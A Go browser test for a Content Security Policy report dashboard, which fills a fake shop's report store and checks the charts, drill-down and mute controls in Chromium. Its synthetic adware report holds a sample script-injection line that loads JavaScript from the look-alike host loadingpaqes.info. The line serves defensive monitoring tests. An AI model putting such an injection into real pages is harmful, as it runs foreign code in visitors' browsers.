package dashboard_test

import (
	"context"
	"fmt"
	"net/http"
	"net/http/httptest"
	"os"
	"path/filepath"
	"strings"
	"testing"
	"time"

	"github.com/chromedp/chromedp"

	"github.com/bulwark-go/bulwark/cspreport"
	"github.com/bulwark-go/bulwark/cspreport/dashboard"
	"github.com/bulwark-go/bulwark/cspreport/internal/storetest"
	"github.com/bulwark-go/bulwark/internal/testenv"
)

// The user agents of realisticStore's reports.
var realisticUAs = []string{
	"Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/131.0.0.0 Safari/537.36",
	"Mozilla/5.0 (X11; Linux x86_64; rv:133.0) Gecko/20100101 Firefox/133.0",
	"Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/18.1 Safari/605.1.15",
	"Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/131.0.0.0 Safari/537.36 Edg/131.0.0.0",
}

// realisticStore holds a shop's reports of the last two weeks, as a
// collector sees them: a CDN and fonts its pages need, hour after hour
// with the day's rhythm; a report-only rollout of Trusted Types; a widget
// added today (new); an analytics call that had stopped and came back
// (regressed); and one client's adware (an injection).
func realisticStore(t testing.TB, now time.Time) (cspreport.Store, map[string]string) {
	const origin = "https://shop.example.com"
	type group struct {
		name, directive, disposition, kind, blocked, path, source, sample string
		perHour                                                           int           // reports in a busy hour
		from, until                                                       time.Duration // ago
	}
	groups := []group{
		{"cdn", "script-src-elem", "enforce", "url", "https://cdn.jsdelivr.net/npm/swiper@11/swiper-bundle.min.js", "/products/:id", "", "", 9, 14 * 24 * time.Hour, 0},
		{"cdn-cart", "script-src-elem", "enforce", "url", "https://cdn.jsdelivr.net/npm/swiper@11/swiper-bundle.min.js", "/cart", "", "", 4, 14 * 24 * time.Hour, 0},
		{"fonts", "style-src-elem", "report", "url", "https://fonts.googleapis.com/css2", "/", "", "", 6, 10 * 24 * time.Hour, 0},
		{"images", "img-src", "enforce", "url", "https://images.unsplash.com/photo-1", "/products/:id", "", "", 3, 3 * 24 * time.Hour, 0},
		{"tt", "require-trusted-types-for", "report", "trusted-types-sink", "trusted-types-sink", "/", origin + "/static/app.js", "Element innerHTML|<b>welcome</b>", 5, 9 * 24 * time.Hour, 0},
		{"widget", "script-src-elem", "enforce", "url", "https://widget.intercom.io/widget/abc123", "/", "", "", 7, 5 * time.Hour, 0},
		{"segment-old", "connect-src", "enforce", "url", "https://api.segment.io/v1/t", "/checkout", origin + "/static/analytics.js", "", 2, 13 * 24 * time.Hour, 12 * 24 * time.Hour},
		{"segment-old", "connect-src", "enforce", "url", "https://api.segment.io/v1/t", "/checkout", origin + "/static/analytics.js", "", 3, 4 * time.Hour, 0},
		{"adware", "script-src-elem", "enforce", "url", "http://loadingpaqes.info/js/inject.js", "/products/:id", "", "", 0, 2 * time.Hour, 0},
	}
	var b cspreport.Batch
	keys := map[string]string{}
	for gi, g := range groups {
		base := storetest.Rep(100+gi, 1, now)
		base.GroupFP, base.DetailFP = fmt.Sprintf("grp%s", strings.ReplaceAll(g.name, "-old", "")), fmt.Sprintf("det%s", strings.ReplaceAll(g.name, "-old", ""))
		base.GroupFP, base.DetailFP = strings.ReplaceAll(base.GroupFP, "-", ""), strings.ReplaceAll(base.DetailFP, "-", "")
		keys[strings.TrimSuffix(g.name, "-old")] = base.GroupFP
		base.Directive, base.Disposition, base.BlockedKind = g.directive, g.disposition, g.kind
		base.Blocked, base.BlockedOrigin = g.blocked, g.blocked
		if g.kind == "url" {
			base.BlockedOrigin = g.blocked[:strings.Index(g.blocked[8:], "/")+8]
		}
		base.DocumentOrigin, base.DocumentPath = origin, g.path
		base.DocumentURL = origin + strings.ReplaceAll(g.path, ":id", "1042")
		base.SourceFile, base.Line, base.Column, base.Sample = g.source, 0, 0, g.sample
		if g.source != "" {
			base.Line, base.Column = 12, 31
		}
		base.Policy = "script-src 'self' 'nonce-r4nd0m'; style-src 'self'; img-src 'self'; connect-src 'self'; report-uri /csp-report"
		base.PolicyHash, base.PolicyVersion = "policy-v7", "7"
		if g.perHour == 0 { // one client, once
			r := base
			r.OccurredAt, r.ReceivedAt, r.UserAgent, r.ClientPrefix = now.Add(-g.from), now.Add(-g.from), realisticUAs[0], "198.51.100.0/24"
			r.Sample = `var _0x3f=["\x61\x64"];document.write('<script src=//loadingpaqes.info/a.js>')`
			b.Add(&r)
			continue
		}
		n := 0
		for at := now.Add(-g.from); at.Before(now.Add(-g.until)); at = at.Add(time.Hour) {
			// The day's rhythm: quiet at night (UTC), busy in the afternoon.
			h := at.UTC().Hour()
			k := g.perHour * (2 + min(h, 24-h)) / 12
			for i := range k {
				r := base
				r.OccurredAt = at.Add(time.Duration(i*7%60) * time.Minute)
				if r.OccurredAt.After(now) {
					continue
				}
				r.ReceivedAt, r.UserAgent = r.OccurredAt, realisticUAs[(n+i)%len(realisticUAs)]
				r.ClientPrefix = fmt.Sprintf("203.0.%d.0/24", (n+i)%200)
				b.Add(&r)
			}
			n++
		}
		b.Events = append(b.Events, cspreport.Event{GroupFP: base.GroupFP, DetailFP: base.DetailFP, ReceivedAt: now.Add(-time.Hour),
			Raw: fmt.Sprintf(`{"csp-report":{"document-uri":%q,"effective-directive":%q,"disposition":%q,"blocked-uri":%q,"status-code":200}}`,
				base.DocumentURL+"?utm_source=mail", g.directive, g.disposition, g.blocked)})
	}
	b.Count(now, cspreport.KindFiltered, "scheme:chrome-extension", 41)
	b.Count(now, cspreport.KindFiltered, "scheme:moz-extension", 12)
	b.Count(now, cspreport.KindOther, "deprecation", 7)
	store := cspreport.NewMemoryStore()
	save(t, store, &b)
	return store, keys
}

// artifactDir returns $BULWARK_ARTIFACTS/screenshots, or the module's
// artifacts/screenshots, made if needed.
func artifactDir(t *testing.T) string {
	t.Helper()
	dir := os.Getenv("BULWARK_ARTIFACTS")
	if dir == "" {
		wd, err := os.Getwd()
		if err != nil {
			t.Fatal(err)
		}
		for dir = wd; ; dir = filepath.Dir(dir) {
			if _, err := os.Stat(filepath.Join(dir, "go.mod")); err == nil {
				break
			}
			if filepath.Dir(dir) == dir {
				t.Fatalf("no go.mod above %s", wd)
			}
		}
		dir = filepath.Join(dir, "artifacts")
	}
	dir = filepath.Join(dir, "screenshots")
	if err := os.MkdirAll(dir, 0o755); err != nil {
		t.Fatal(err)
	}
	return dir
}

// TestBrowserDashboard: in Chromium at 1280×900, the dashboard of a
// realistic store loads with its stylesheet and without a CSP violation
// or any other console error of its own; a drill-down shows the group's
// details and raw reports; its mute button mutes it. Screenshots go to
// artifacts/screenshots (dashboard.png, dashboard-group.png).
func TestBrowserDashboard(t *testing.T) {
	ctx := testenv.Browser(t)
	now := time.Now().UTC().Truncate(time.Minute)
	store, keys := realisticStore(t, now)
	h, err := dashboard.New(dashboard.Config{Store: store, AppURL: "/admin/", AppName: "Shop admin", Now: func() time.Time { return now }})
	if err != nil {
		t.Fatal(err)
	}
	mux := http.NewServeMux()
	mux.Handle("/admin/csp-reports", h)
	mux.HandleFunc("/admin/", func(w http.ResponseWriter, r *http.Request) {
		fmt.Fprint(w, `<!doctype html><title>admin</title><h1 id="app">admin</h1>`)
	})
	// A page under the dashboard's policy with an inline style: the
	// console must show its violation, or the check below proves nothing.
	mux.HandleFunc("/violating", func(w http.ResponseWriter, r *http.Request) {
		w.Header().Set("Content-Security-Policy", dashboard.CSP)
		fmt.Fprint(w, "<!doctype html><title>violating</title><style>body{color:red}</style><p>x")
	})
	srv := httptest.NewServer(mux)
	defer srv.Close()

	messages := chromedp.Console(ctx)
	// errorsUntil reads the console up to the marker the page is told to
	// log, and returns its errors.
	marks := 0
	errorsUntil := func() []string {
		t.Helper()
		marks++
		mark := fmt.Sprintf("bulwark-test-mark-%d", marks)
		if _, err := chromedp.Run(ctx, chromedp.Evaluate[any](fmt.Sprintf("console.log(%q)", mark))); err != nil {
			t.Fatal(err)
		}
		var errs []string
		for m, err := range messages {
			if err != nil {
				t.Fatalf("console: %v", err)
			}
			if m.Text == mark {
				break
			}
			if m.Type == chromedp.ConsoleError || m.Type == chromedp.ConsoleException || m.Type == chromedp.ConsoleWarning {
				errs = append(errs, m.String())
			}
		}
		return errs
	}
	step := func(what string, actions ...chromedp.Action[chromedp.Void]) {
		t.Helper()
		actx, cancel := context.WithTimeout(ctx, 20*time.Second)
		defer cancel()
		if err := chromedp.Do(actx, actions...); err != nil {
			t.Fatalf("%s: %v", what, err)
		}
	}
	shoot := func(name string) {
		t.Helper()
		shot, err := chromedp.Run(ctx, chromedp.CaptureScreenshot())
		if err != nil {
			t.Fatal(err)
		}
		path := filepath.Join(artifactDir(t), name)
		if err := os.WriteFile(path, shot, 0o644); err != nil {
			t.Fatal(err)
		}
		t.Logf("screenshot %s (%d bytes)", path, len(shot))
	}

	step("set the viewport", chromedp.EmulateViewport(1280, 900))
	step("open the control page", chromedp.Navigate(srv.URL+"/violating"))
	if errs := errorsUntil(); len(errs) == 0 || !strings.Contains(strings.Join(errs, "\n"), "Content Security Policy") {
		t.Fatalf("the control page's inline style was not reported on the console: %q", errs)
	}

	step("open the dashboard", chromedp.Navigate(srv.URL+"/admin/csp-reports"), chromedp.WaitVisible(chromedp.ID("groups")))
	font, err := chromedp.Run(ctx, chromedp.Evaluate[string](`getComputedStyle(document.body).fontFamily`))
	if err != nil || !strings.Contains(font, "system-ui") {
		t.Errorf("the stylesheet did not apply: font %q, %v", font, err)
	}
	bars, err := chromedp.Run(ctx, chromedp.Evaluate[int](`document.querySelectorAll("#chart svg rect").length`))
	if err != nil || bars < 24 {
		t.Errorf("the chart has %d bars (%v), want one per hour and series", bars, err)
	}
	rows, err := chromedp.Run(ctx, chromedp.Evaluate[[]string](`[...document.querySelectorAll("#groups tbody tr")].map(tr => tr.className + " " + tr.querySelector("a[href*='group=']").getAttribute("href"))`))
	if err != nil || len(rows) < 4 || !strings.HasPrefix(rows[0], "new ") || !strings.HasPrefix(rows[1], "new ") ||
		rows[2] != "regressed ?group="+keys["segment"] || !strings.HasPrefix(rows[3], " ") {
		t.Errorf("the groups are not new, then regressed (%s), first: %q, %v", keys["segment"], rows, err)
	}
	text, err := chromedp.Run(ctx, chromedp.Text(chromedp.ID("assistant")))
	if err != nil || !strings.Contains(text, "https://cdn.jsdelivr.net") || !strings.Contains(text, "loadingpaqes.info") {
		t.Errorf("the assistant's panel:\n%s\n%v", text, err)
	}
	if errs := errorsUntil(); len(errs) > 0 {
		t.Errorf("the dashboard wrote to the console:\n%s", strings.Join(errs, "\n"))
	}
	shoot("dashboard.png")

	// Drill down into the regressed group.
	step("open the regressed group", chromedp.Click(chromedp.CSS(`#groups tr.regressed a[href*="group=`+keys["segment"]+`"]`)),
		chromedp.WaitVisible(chromedp.ID("details")))
	text, err = chromedp.Run(ctx, chromedp.Text(chromedp.ID("details")))
	if err != nil || !strings.Contains(text, "analytics.js:12:31") || !strings.Contains(text, "utm_source=mail") {
		t.Errorf("the group's details:\n%s\n%v", text, err)
	}
	if errs := errorsUntil(); len(errs) > 0 {
		t.Errorf("the group's page wrote to the console:\n%s", strings.Join(errs, "\n"))
	}
	shoot("dashboard-group.png")

	// Mute it: back on its page, which now offers to unmute it.
	step("mute the group", chromedp.Click(chromedp.ID("mute")), chromedp.WaitVisible(chromedp.ID("unmute")))
	label, err := chromedp.Run(ctx, chromedp.Text(chromedp.ID("unmute")))
	if err != nil || label != "unmute this group" {
		t.Errorf("after mute the button says %q (%v)", label, err)
	}
	gs, err := store.Groups(ctx, cspreport.GroupQuery{Fingerprint: keys["segment"], Muted: true})
	if err != nil || len(gs) != 1 || !gs[0].Muted {
		t.Errorf("the store's group after mute: %+v, %v", gs, err)
	}
	step("back to the list", chromedp.Click(chromedp.ID("back")), chromedp.WaitVisible(chromedp.ID("groups")))
	n, err := chromedp.Run(ctx, chromedp.Evaluate[int](fmt.Sprintf(`document.querySelectorAll("#groups a[href*='group=%s']").length`, keys["segment"])))
	if err != nil || n != 0 {
		t.Errorf("the muted group is still listed (%d links, %v)", n, err)
	}
	step("back to the app", chromedp.Click(chromedp.ID("back-to-app")), chromedp.WaitVisible(chromedp.ID("app")))
	if loc, err := chromedp.Run(ctx, chromedp.Location()); err != nil || loc != srv.URL+"/admin/" {
		t.Errorf("the way back leads to %q (%v)", loc, err)
	}
	if errs := errorsUntil(); len(errs) > 0 {
		t.Errorf("the pages wrote to the console:\n%s", strings.Join(errs, "\n"))
	}
}
